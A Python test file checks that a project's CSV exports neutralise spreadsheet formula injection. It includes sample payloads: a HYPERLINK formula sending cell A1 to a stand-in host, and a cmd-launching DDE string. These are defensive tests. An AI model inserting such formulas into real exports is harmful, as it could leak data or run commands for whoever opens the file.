"""Every CSV we produce is safe to open in a spreadsheet (OWASP « CSV injection »)."""

from __future__ import annotations

import csv
import io

import pytest

from aiguillage.csv_cells import neutralise
from aiguillage.places.exporting import export_text
from tests import factories

FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez ici")'


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        (FORMULA, "'" + FORMULA),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        # Numbers are not formulas: phone numbers of the standard keep their form.
        ("+33476000000", "+33476000000"),
        ("+33 4 76 00 00 00", "+33 4 76 00 00 00"),
        ("-3", "-3"),
        ("-0,5", "-0,5"),
        ("Médiathèque", "Médiathèque"),
        ("a=1", "a=1"),
        (7, 7),
        (None, None),
    ],
)
def test_cells_that_could_run_as_formulas_are_neutralised(cell, expected):
    assert neutralise(cell) == expected


def test_the_open_data_export_neutralises_an_imported_formula(territory, organisation):
    factories.PlaceFactory(
        territory=territory, organisation=organisation, nom=FORMULA, telephone="+33476000000"
    )
    rows = list(csv.DictReader(io.StringIO(export_text(territory, "lieux-mediation-numerique-v1"))))
    assert rows[0]["nom"] == "'" + FORMULA
    assert rows[0]["telephone"] == "+33476000000"
